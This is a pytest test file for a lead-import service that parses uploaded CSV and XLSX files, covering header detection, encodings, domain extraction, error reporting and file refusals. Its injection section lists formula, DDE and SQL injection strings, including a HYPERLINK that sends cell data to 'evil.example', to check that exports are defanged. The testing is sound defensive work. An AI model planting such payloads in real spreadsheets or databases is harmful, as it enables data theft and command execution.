"""Reading uploaded lead files: CSV and XLSX, Turkish and English headers, per-row errors, refusals."""

from __future__ import annotations

import codecs
import csv
import gc
import io
import random
import tempfile
import time
import zipfile
from datetime import datetime
from pathlib import Path
from typing import BinaryIO

import openpyxl
import pytest

from leadhunter.services.csv_encoding import MIXED
from leadhunter.services.export_writer import csv_chunks
from leadhunter.services.tabular_import import (
    UNREADABLE,
    ImportFileError,
    ImportRow,
    ImportSummary,
    TabularRows,
    import_rows,
    read_rows,
)


def load(data: bytes, filename: str = "leads.csv", **limits: int) -> tuple[list[ImportRow], TabularRows]:
    reader = read_rows(io.BytesIO(data), filename, **limits)
    return list(reader), reader


def summarize(data: bytes, filename: str = "leads.csv") -> tuple[list[ImportRow], ImportSummary]:
    summary = ImportSummary()
    accepted = list(import_rows(read_rows(io.BytesIO(data), filename), summary, set()))
    return accepted, summary


def refusal(data: bytes, filename: str = "leads.csv", **limits: int) -> ImportFileError:
    with pytest.raises(ImportFileError) as caught:
        list(read_rows(io.BytesIO(data), filename, **limits))
    return caught.value


class OneWayStream(io.RawIOBase):
    """An upload that cannot seek, like a socket."""

    def __init__(self, data: bytes) -> None:
        self._data = io.BytesIO(data)

    def readable(self) -> bool:
        return True

    def readinto(self, buffer: bytearray) -> int:  # type: ignore[override]
        chunk = self._data.read(len(buffer))
        buffer[: len(chunk)] = chunk
        return len(chunk)


def xlsx_bytes(sheets: dict[str, list[list[object]]], merge: dict[str, str] | None = None) -> bytes:
    workbook = openpyxl.Workbook()
    workbook.remove(workbook.active)
    for title, rows in sheets.items():
        sheet = workbook.create_sheet(title)
        for row in rows:
            sheet.append(row)
        if merge and title in merge:
            sheet.merge_cells(merge[title])
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


# --- headers ----------------------------------------------------------------------------------------------

TURKISH_WITH_TITLES = (
    "Müşteri Listesi 2024;;;\n"
    "Hazırlayan: Satış Ekibi;;;\n"
    ";;;\n"
    "Şirket Adı;Web Sitesi;E-posta;Şehir\n"
    "Çağdaş Yazılım A.Ş.;www.cagdas.com.tr;info@cagdas.com.tr;İstanbul\n"
    "Örnek Ltd.;;satis@ornek.com.tr;İzmir\n"
)


def test_turkish_headers_below_title_rows() -> None:
    rows, reader = load(TURKISH_WITH_TITLES.encode("utf-8-sig"))
    assert (reader.kind, reader.encoding, reader.delimiter) == ("csv", "utf-8-sig", ";")
    assert reader.columns == {"name": "Şirket Adı", "website": "Web Sitesi", "email": "E-posta"}
    assert [(r.line, r.name, r.domain, r.email) for r in rows] == [
        (5, "Çağdaş Yazılım A.Ş.", "cagdas.com.tr", "info@cagdas.com.tr"),
        (6, "Örnek Ltd.", "ornek.com.tr", "satis@ornek.com.tr"),
    ]
    assert rows[0].raw == {"Şirket Adı": "Çağdaş Yazılım A.Ş.", "Web Sitesi": "www.cagdas.com.tr",
                           "E-posta": "info@cagdas.com.tr", "Şehir": "İstanbul"}


@pytest.mark.parametrize(
    ("header", "columns"),
    [
        ("Company,Domain", {"name": "Company", "domain": "Domain"}),
        ("Company Name,Name,Website", {"name": "Company Name", "website": "Website"}),
        ("FİRMA ADI,ALAN ADI", {"name": "FİRMA ADI", "domain": "ALAN ADI"}),
        ("Ünvan,Web", {"name": "Ünvan", "website": "Web"}),
        ("unvan,URL", {"name": "unvan", "website": "URL"}),
        ("Şirket,Site", {"name": "Şirket", "website": "Site"}),
        ("Müşteri,Eposta", {"name": "Müşteri", "email": "Eposta"}),
        ("Firma,E-Mail", {"name": "Firma", "email": "E-Mail"}),
        ("Name,Mail", {"name": "Name", "email": "Mail"}),
        ("  web sitesi  ,e posta", {"website": "web sitesi", "email": "e posta"}),
        ("Email,Website,Domain,Company", {"domain": "Domain", "website": "Website", "email": "Email",
                                          "name": "Company"}),
    ],
)
def test_header_names_in_english_and_turkish(header: str, columns: dict[str, str]) -> None:
    _, reader = load(f"{header}\n{','.join(['acme.com'] * (header.count(',') + 1))}\n".encode())
    assert reader.columns == columns


@pytest.mark.parametrize(("titles", "found"), [(0, True), (10, True), (11, False)])
def test_up_to_ten_title_rows_above_the_header(titles: int, found: bool) -> None:
    text = "".join(f"Report line {i}\n\n" for i in range(titles)) + "Company,Website\nAcme,acme.com\n"
    if found:
        rows, _ = load(text.encode())
        assert [(r.line, r.domain) for r in rows] == [(2 * titles + 2, "acme.com")]
    else:
        assert refusal(text.encode()).code == "no_column"


def test_headerless_list_of_domains() -> None:
    rows, reader = load(b"acme.com\nhttps://www.beta.com.tr/\nali@gamma.de\nnot a domain\n")
    assert reader.columns == {"domain": "column 1"}
    assert [(r.line, r.domain, r.email) for r in rows[:3]] == [
        (1, "acme.com", None), (2, "beta.com.tr", None), (3, "gamma.de", "ali@gamma.de")]
    assert rows[3].error is not None and rows[3].error.startswith("line 4: ")


# --- cells, domains, errors -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("domain", "website", "email", "expected", "error"),
    [
        ("acme.com", "other.com", "a@third.com", "acme.com", None),
        ("", "https://www.other.com/tr", "a@third.com", "other.com", None),
        ("", "", "Ali <ali@third.com>", "third.com", None),
        ("", "acme.com.tr", "ali@gmail.com", "acme.com.tr", None),  # a website beats a mailbox
        ("nan", "NULL", "ali@acme.com", "acme.com", None),  # null markers are blanks
        ("acme", "", "ali@acme.de", "acme.de", None),  # an unusable domain cell falls back
        ("", "", "ali@gmail.com", None, "line 2: “gmail.com” is a personal mailbox provider, not a company domain"),
        ("", "", "", None, "line 2: no domain, website or e-mail"),
        ("acme", "", "", None, "line 2: “acme” has no dot, so it is not a domain name"),
        ("", "192.168.1.1", "", None, "line 2: “192.168.1.1” is an IP address, not a domain name"),
    ],
)
def test_domain_comes_from_domain_then_website_then_email(
    domain: str, website: str, email: str, expected: str | None, error: str | None
) -> None:
    rows, _ = load(f"Name,Domain,Website,Email\nAcme,{domain},{website},{email}\n".encode())
    assert rows[0].domain == expected
    if error is None:
        assert rows[0].error is None
    else:
        assert rows[0].error is not None and rows[0].error.startswith(error)


def test_blank_cells_are_dropped_and_never_become_nan() -> None:
    rows, _ = load(b"Company,Website,Phone,City\n,acme.com,,\nBeta,beta.com, ,None\n")
    assert [r.raw for r in rows] == [{"Website": "acme.com"}, {"Company": "Beta", "Website": "beta.com"}]
    assert rows[0].name is None and rows[0].email is None
    assert all("nan" not in r.raw.values() and "None" not in r.raw.values() for r in rows)


@pytest.mark.parametrize("newline", ["\n", "\r\n"])
def test_error_lines_count_physical_lines_after_a_multiline_cell(newline: str) -> None:
    text = newline.join([
        "Company,Website,Notes",
        "Acme,acme.com,ok",
        '"Beta, Inc",beta.com,"first line',
        "second line",
        'third line"',
        "Bad,not a domain,x",
        "",
        "NoSite,,",
        "Gamma,gamma.com,",
    ]) + newline
    accepted, summary = summarize(text.encode())
    assert [(r.line, r.domain) for r in accepted] == [(2, "acme.com"), (3, "beta.com"), (9, "gamma.com")]
    assert accepted[1].raw["Notes"] == newline.join(["first line", "second line", "third line"])
    assert summary.errors == [
        {"line": 6, "reason": "“not a domain” contains a space, which a domain name cannot have"},
        {"line": 8, "reason": "no domain, website or e-mail"},
    ]
    assert (summary.rows, summary.accepted, summary.duplicates) == (5, 3, 0)


def test_duplicates_within_a_file_and_across_files() -> None:
    data = b"Website\nacme.com\nhttps://WWW.ACME.com/about\nbeta.com\nacme.com.\nbeta.com\n"
    seen = {"beta.com"}  # already imported from an earlier file
    summary = ImportSummary()
    accepted = list(import_rows(read_rows(io.BytesIO(data), "x.csv"), summary, seen))
    assert [r.domain for r in accepted] == ["acme.com"]
    assert (summary.rows, summary.accepted, summary.duplicates, summary.errors) == (5, 1, 4, [])
    assert summary.columns == {"website": "Website"}
    assert seen == {"acme.com", "beta.com"}


@pytest.mark.parametrize(
    ("website", "domain", "unicode"),
    [
        ("https://www.müller.de/kontakt", "xn--mller-kva.de", "müller.de"),
        ("ŞEKER.com.tr", "xn--eker-45a.com.tr", "şeker.com.tr"),
        ("xn--mller-kva.de", "xn--mller-kva.de", "müller.de"),
        ("http://bücher.example.com", "example.com", "example.com"),
    ],
)
def test_idn_websites(website: str, domain: str, unicode: str) -> None:
    rows, _ = load(f"Firma;Web Sitesi\nX;{website}\n".encode())
    assert (rows[0].domain, rows[0].domain_unicode, rows[0].error) == (domain, unicode, None)


# --- encodings and delimiters -----------------------------------------------------------------------------

TURKISH = "Firma Adı;Web Sitesi\nÇağdaş Şirketi;çağdaş.com.tr\nIşık Ğıda;isik.com.tr\n"


@pytest.mark.parametrize(
    ("encoding", "detected"),
    [("utf-8", "utf-8"), ("utf-8-sig", "utf-8-sig"), ("cp1254", "cp1254"), ("utf-16", "utf-16")],
)
def test_encodings(encoding: str, detected: str) -> None:
    rows, reader = load(TURKISH.encode(encoding))
    assert reader.encoding == detected
    assert [(r.name, r.domain_unicode) for r in rows] == [
        ("Çağdaş Şirketi", "çağdaş.com.tr"), ("Işık Ğıda", "isik.com.tr")]


HEADER = "Firma,Web Sitesi\n"
UTF8_LINE = "Müşteri Şirketi,musteri.com.tr\n".encode()
CP1254_LINE = "Müşteri Ş,ikinci.com.tr\n".encode("cp1254")
NEITHER_LINE = b"Caf\xe9 \x81,cafe.fr\n"  # 0x81 is undefined in cp1254, and 0xe9 0x20 is no UTF-8 sequence
ASCII_LINE = b"Acme,acme.com\n"
UTF8_NAME, CP1254_NAME = "Müşteri Şirketi", "Müşteri Ş"
NEITHER = f"line {{line}}: {UNREADABLE}"


@pytest.mark.parametrize(
    ("data", "encoding", "names"),
    [
        pytest.param(HEADER.encode() + UTF8_LINE + ASCII_LINE, "utf-8", [UTF8_NAME, "Acme"], id="pure utf-8"),
        pytest.param(codecs.BOM_UTF8 + HEADER.encode() + UTF8_LINE, "utf-8-sig", [UTF8_NAME], id="utf-8 bom"),
        pytest.param(HEADER.encode() + CP1254_LINE + ASCII_LINE, "cp1254", [CP1254_NAME, "Acme"], id="pure cp1254"),
        pytest.param((HEADER + "Müşteri Şirketi,musteri.com.tr\n").encode("utf-16"), "utf-16", [UTF8_NAME],
                     id="utf-16 le bom"),
        pytest.param(codecs.BOM_UTF16_BE + (HEADER + "Müşteri Şirketi,musteri.com.tr\n").encode("utf-16-be"),
                     "utf-16", [UTF8_NAME], id="utf-16 be bom"),
        pytest.param(HEADER.encode() + UTF8_LINE + CP1254_LINE, MIXED, [UTF8_NAME, CP1254_NAME], id="mixed"),
        pytest.param(HEADER.encode() + CP1254_LINE + UTF8_LINE + ASCII_LINE, MIXED, [CP1254_NAME, UTF8_NAME, "Acme"],
                     id="mixed, cp1254 first"),
        pytest.param(codecs.BOM_UTF8 + HEADER.encode() + UTF8_LINE + CP1254_LINE, MIXED, [UTF8_NAME, CP1254_NAME],
                     id="mixed after a utf-8 bom"),
        pytest.param(HEADER.encode() + CP1254_LINE + NEITHER_LINE + ASCII_LINE, "cp1254", [CP1254_NAME, None, "Acme"],
                     id="cp1254 with a line in neither"),
        pytest.param(HEADER.encode() + UTF8_LINE + NEITHER_LINE + CP1254_LINE, MIXED, [UTF8_NAME, None, CP1254_NAME],
                     id="mixed with a line in neither"),
        pytest.param(HEADER.encode() + NEITHER_LINE, "cp1254", [None], id="only a line in neither"),
        pytest.param(HEADER.encode().replace(b"\n", b"\r") + CP1254_LINE.replace(b"\n", b"\r") + NEITHER_LINE
                     .replace(b"\n", b"\r") + UTF8_LINE.replace(b"\n", b"\r"), MIXED, [CP1254_NAME, None, UTF8_NAME],
                     id="old mac line ends"),
        pytest.param(HEADER.encode().replace(b"\n", b"\r\n") + UTF8_LINE.replace(b"\n", b"\r\n")
                     + NEITHER_LINE.replace(b"\n", b"\r\n") + CP1254_LINE.replace(b"\n", b"\r\n"), MIXED,
                     [UTF8_NAME, None, CP1254_NAME], id="windows line ends"),
    ],
)
def test_encodings_by_file_and_by_line(data: bytes, encoding: str, names: list[str | None]) -> None:
    """Each line is read in its own encoding when a file mixes them; a line in neither is refused with its
    number, never stored as mojibake."""
    rows, reader = load(data)
    assert reader.encoding == encoding
    assert [r.name for r in rows] == names
    for row in rows:
        if row.name is None:
            assert (row.domain, row.raw, row.error) == (None, {}, NEITHER.format(line=row.line))
        else:
            assert row.error is None and row.domain is not None
    stored = " ".join(str(r.raw) for r in rows)
    assert not any(mark in stored for mark in ("Ã", "Å", "þ", "Þ", "\ufffd")), stored  # no mojibake
    assert not any("\x80" <= ch <= "\x9f" for ch in stored)  # no C1 control characters either


def test_a_refused_line_keeps_its_number_and_the_rest_imports() -> None:
    data = HEADER.encode() + UTF8_LINE + b'"Quoted\n' + NEITHER_LINE + b'",quoted.com\n' + CP1254_LINE
    accepted, summary = summarize(data)
    assert [r.name for r in accepted] == [UTF8_NAME, CP1254_NAME]
    assert [r.line for r in accepted] == [2, 6]  # the quoted cell spans lines 3 to 5
    assert summary.errors == [{"line": 3, "reason": UNREADABLE}]


def test_damaged_utf16_is_refused() -> None:
    data = (HEADER + "Acme,acme.com\n").encode("utf-16") + b"\x00\xd8"  # a lone high surrogate at the end
    assert refusal(data).code == "damaged"


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_delimiters(delimiter: str) -> None:
    text = f"Title only\nCompany{delimiter}Website{delimiter}City\nAcme{delimiter}acme.com{delimiter}Ankara\n"
    rows, reader = load(text.encode())
    assert reader.delimiter == delimiter
    assert rows[0].raw == {"Company": "Acme", "Website": "acme.com", "City": "Ankara"}


def test_semicolon_csv_with_commas_in_names() -> None:
    rows, reader = load("Firma;Web\nAcme, Inc.;acme.com\nBeta, Gamma ve Ortakları;beta.com.tr\n".encode())
    assert reader.delimiter == ";"
    assert [(r.name, r.domain) for r in rows] == [("Acme, Inc.", "acme.com"), ("Beta, Gamma ve Ortakları",
                                                                                "beta.com.tr")]


# --- XLSX ----------------------------------------------------------------------------------------------


def test_xlsx_with_title_row_merged_cells_and_numbers() -> None:
    data = xlsx_bytes(
        {
            "Boş": [],
            "Liste": [
                ["Müşteri Listesi", None, None, None],
                [],
                ["Firma Adı", "Web Sitesi", "Telefon", "Kuruluş", "Ciro"],
                ["Acme", "acme.com.tr", 905321234567, datetime(2020, 1, 2), 1.5],
                ["Numara", 12345, None, datetime(2021, 3, 4, 10, 30), 2.0],
                ["Müller", "https://www.müller.de", None, None, None],
                [None, None, None, None, None],
                ["=HYPERLINK(\"http://evil\",\"x\")", "evil.com", None, None, None],
            ],
        },
        merge={"Liste": "A1:D1"},
    )
    book = openpyxl.load_workbook(io.BytesIO(data))
    book["Liste"]["A8"].data_type = "s"  # text that looks like a formula, as a user may paste it
    out = io.BytesIO()
    book.save(out)
    rows, reader = load(out.getvalue(), "Liste.xlsx")
    assert (reader.kind, reader.sheet) == ("xlsx", "Liste")
    assert reader.columns == {"name": "Firma Adı", "website": "Web Sitesi"}
    assert [(r.line, r.name, r.domain) for r in rows] == [
        (4, "Acme", "acme.com.tr"), (5, "Numara", None), (6, "Müller", "xn--mller-kva.de"),
        (8, '=HYPERLINK("http://evil","x")', "evil.com")]
    assert rows[0].raw == {"Firma Adı": "Acme", "Web Sitesi": "acme.com.tr", "Telefon": "905321234567",
                           "Kuruluş": "2020-01-02", "Ciro": "1.5"}
    assert rows[1].raw == {"Firma Adı": "Numara", "Web Sitesi": "12345", "Kuruluş": "2021-03-04 10:30:00",
                           "Ciro": "2"}
    assert rows[1].error is not None and rows[1].error.startswith("line 5: “12345” ")


@pytest.mark.parametrize(
    ("data", "filename", "kind"),
    [
        (xlsx_bytes({"Sheet": [["Domain"], ["acme.com"]]}), "export.csv", "xlsx"),
        (b"Domain\tCompany\nacme.com\tAcme\n", "export.xls", "csv"),  # TSV saved as ".xls" by many systems
        (b"Domain\nacme.com\n", "export.xlsx", "csv"),
    ],
)
def test_type_comes_from_content_not_name(data: bytes, filename: str, kind: str) -> None:
    rows, reader = load(data, filename)
    assert reader.kind == kind and [r.domain for r in rows] == ["acme.com"]


# --- whole-file refusals ----------------------------------------------------------------------------------

ZIP_DOCX = io.BytesIO()
with zipfile.ZipFile(ZIP_DOCX, "w") as _archive:
    _archive.writestr("[Content_Types].xml", "<Types/>")
    _archive.writestr("word/document.xml", "<document/>")
ZIP_ODS = io.BytesIO()
with zipfile.ZipFile(ZIP_ODS, "w") as _archive:
    _archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")


@pytest.mark.parametrize(
    ("data", "filename", "code", "words"),
    [
        (bytes.fromhex("d0cf11e0a1b11ae1") + bytes(600), "leads.xls", "old_excel", ".xlsx"),
        (ZIP_DOCX.getvalue(), "leads.xlsx", "not_tabular", "not an Excel workbook"),
        (ZIP_ODS.getvalue(), "leads.ods", "not_tabular", "OpenDocument"),
        (b"PK\x03\x04" + bytes(range(256)) * 4, "leads.xlsx", "damaged", "damaged"),
        (xlsx_bytes({"S": [["Domain"], ["acme.com"]]})[:-200], "leads.xlsx", "damaged", "damaged"),
        (b"<!DOCTYPE html><html><table><tr><td>x</td></tr></table></html>", "leads.xls", "not_tabular", "web page"),
        (b"Domain\n" + b"\x00" * 64 + b"acme.com\n", "leads.csv", "not_tabular", "binary"),
        (b"", "leads.csv", "empty", "empty"),
        (b" \r\n\r\n \t\n", "leads.csv", "empty", "empty"),
        (xlsx_bytes({"A": [], "B": [[None, None]]}), "leads.xlsx", "empty", "no data"),
        (b"Domain;Company\n;;\n", "leads.csv", "empty", "no rows under it"),
        (b"Company,City\nAcme,Ankara\n", "leads.csv", "no_column", "no domain, website or e-mail column"),
        (b"Quarterly report\nRevenue up\n", "leads.csv", "no_column", "No header row found"),
    ],
)
def test_files_refused_as_a_whole(data: bytes, filename: str, code: str, words: str) -> None:
    error = refusal(data, filename)
    assert error.code == code
    assert words in str(error)


def test_ten_megabytes_of_random_bytes_refused_quickly() -> None:
    junk = random.Random(7).randbytes(10 * 1024 * 1024)
    started = time.perf_counter()
    for name in ("leads.csv", "leads.xlsx", "leads"):
        assert refusal(junk, name).code == "not_tabular"
    no_nul = junk.replace(b"\x00", b"a")  # still full of control bytes
    assert refusal(no_nul, "leads.csv").code == "not_tabular"
    assert refusal(b"PK\x03\x04" + junk, "leads.xlsx").code == "damaged"
    assert time.perf_counter() - started < 2.0


def test_size_limit_seekable_and_not() -> None:
    data = b"Domain\n" + b"acme.com\n" * 200
    assert refusal(data, max_bytes=1000).code == "too_large"
    with pytest.raises(ImportFileError) as caught:
        read_rows(OneWayStream(data), "leads.csv", max_bytes=1000)  # type: ignore[arg-type]
    assert caught.value.code == "too_large"
    rows = list(read_rows(OneWayStream(data), "leads.csv", max_bytes=len(data)))  # type: ignore[arg-type]
    assert len(rows) == 200


def test_row_limit_raises_while_reading() -> None:
    data = b"Domain\n" + b"".join(f"d{i}.com\n".encode() for i in range(5))
    assert len(load(data, max_rows=5)[0]) == 5
    reader = read_rows(io.BytesIO(data), "leads.csv", max_rows=4)
    assert [r.domain for r in [next(reader) for _ in range(4)]] == ["d0.com", "d1.com", "d2.com", "d3.com"]
    with pytest.raises(ImportFileError) as caught:
        next(reader)
    assert caught.value.code == "too_many_rows" and "more than 4 rows" in str(caught.value)


def test_unclosed_quote_that_swallows_the_file_is_refused() -> None:
    data = b'Company,Domain\n"Acme,acme.com\n' + b"x" * 200_000 + b"\n"
    assert refusal(data).code == "damaged"


@pytest.mark.parametrize("kind", ["bytesio", "spooled", "one-way", "file"])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_every_kind_of_upload_stream(kind: str, fmt: str, tmp_path: Path) -> None:
    data = (b"Domain,Company\nacme.com,Acme\nbeta.com.tr,Beta\n" if fmt == "csv"
            else xlsx_bytes({"S": [["Domain", "Company"], ["acme.com", "Acme"], ["beta.com.tr", "Beta"]]}))
    stream: BinaryIO
    if kind == "bytesio":
        stream = io.BytesIO(data)
    elif kind == "spooled":  # what FastAPI's UploadFile.file is
        stream = tempfile.SpooledTemporaryFile(max_size=10)  # type: ignore[assignment]  # noqa: SIM115
        stream.write(data)
        stream.seek(0)
    elif kind == "one-way":
        stream = OneWayStream(data)  # type: ignore[assignment]
    else:
        path = tmp_path / f"leads.{fmt}"
        path.write_bytes(data)
        stream = path.open("rb")
    reader = read_rows(stream, f"leads.{fmt}")
    assert (reader.kind, [(r.domain, r.name) for r in reader]) == (fmt, [("acme.com", "Acme"),
                                                                         ("beta.com.tr", "Beta")])
    assert not stream.closed
    stream.close()


def test_abandoned_rows_leave_the_callers_stream_open() -> None:
    stream = io.BytesIO(b"Domain\nacme.com\nbeta.com\n")
    reader = read_rows(stream, "leads.csv")
    del reader
    gc.collect()
    assert not stream.closed
    stream.seek(0)
    assert stream.read() == b"Domain\nacme.com\nbeta.com\n"


def test_callers_stream_left_open_and_read_from_its_position() -> None:
    stream = io.BytesIO(b"junk header to skip|Domain\nacme.com\n")
    stream.seek(20)
    rows = list(read_rows(stream, "leads.csv"))
    assert [r.domain for r in rows] == ["acme.com"] and not stream.closed


# --- injection text is data on import, defanged on export -------------------------------------------------

INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1", "-2", "@SUM(A1:A9)", "\tx", "\rx",
              "Robert'); DROP TABLE companies;--", "=cmd|' /C calc'!A0"]


def test_injection_text_preserved_on_import_and_defanged_on_export() -> None:
    buffer = io.StringIO()
    writer = csv.writer(buffer)  # CRLF line ends, so a cell holding CR is quoted as Excel does
    writer.writerow(["Company", "Website"])
    writer.writerows([text, f"site{i}.com"] for i, text in enumerate(INJECTIONS))
    rows, _ = load(buffer.getvalue().encode())
    assert [r.name for r in rows] == INJECTIONS
    exported = b"".join(csv_chunks(["name"], [[r.name] for r in rows])).decode("utf-8-sig")
    back = [row[0] for row in csv.reader(io.StringIO(exported, newline=""))][1:]
    assert back[:6] == ["'" + text for text in INJECTIONS[:6]]
    assert back[6:] == ["Robert'); DROP TABLE companies;--", "'=cmd|' /C calc'!A0"]


# --- volume -------------------------------------------------------------------------------------------


def test_hundred_thousand_rows_streamed() -> None:
    lines = ["Firma Adı,Web Sitesi,E-posta"]
    for i in range(100_000):
        if i % 1000 == 999:
            lines.append(f"Bad {i},not a site,")
        elif i % 500 == 1:
            lines.append(f"Dup {i},www.firma{i - 1}.com.tr,")
        else:
            lines.append(f"Firma {i},firma{i}.com.tr,info@firma{i}.com.tr")
    data = ("\n".join(lines) + "\n").encode()
    summary = ImportSummary()
    accepted = 0
    last: ImportRow | None = None
    for row in import_rows(read_rows(io.BytesIO(data), "big.csv"), summary, set()):
        accepted += 1
        last = row
    assert (summary.rows, summary.accepted, summary.duplicates, len(summary.errors)) == (100_000, 99_700, 200, 100)
    assert accepted == 99_700 and last is not None and (last.line, last.domain) == (100_000, "firma99998.com.tr")
    reason = "“not a site” contains a space, which a domain name cannot have"
    assert summary.errors[0] == {"line": 1001, "reason": reason}
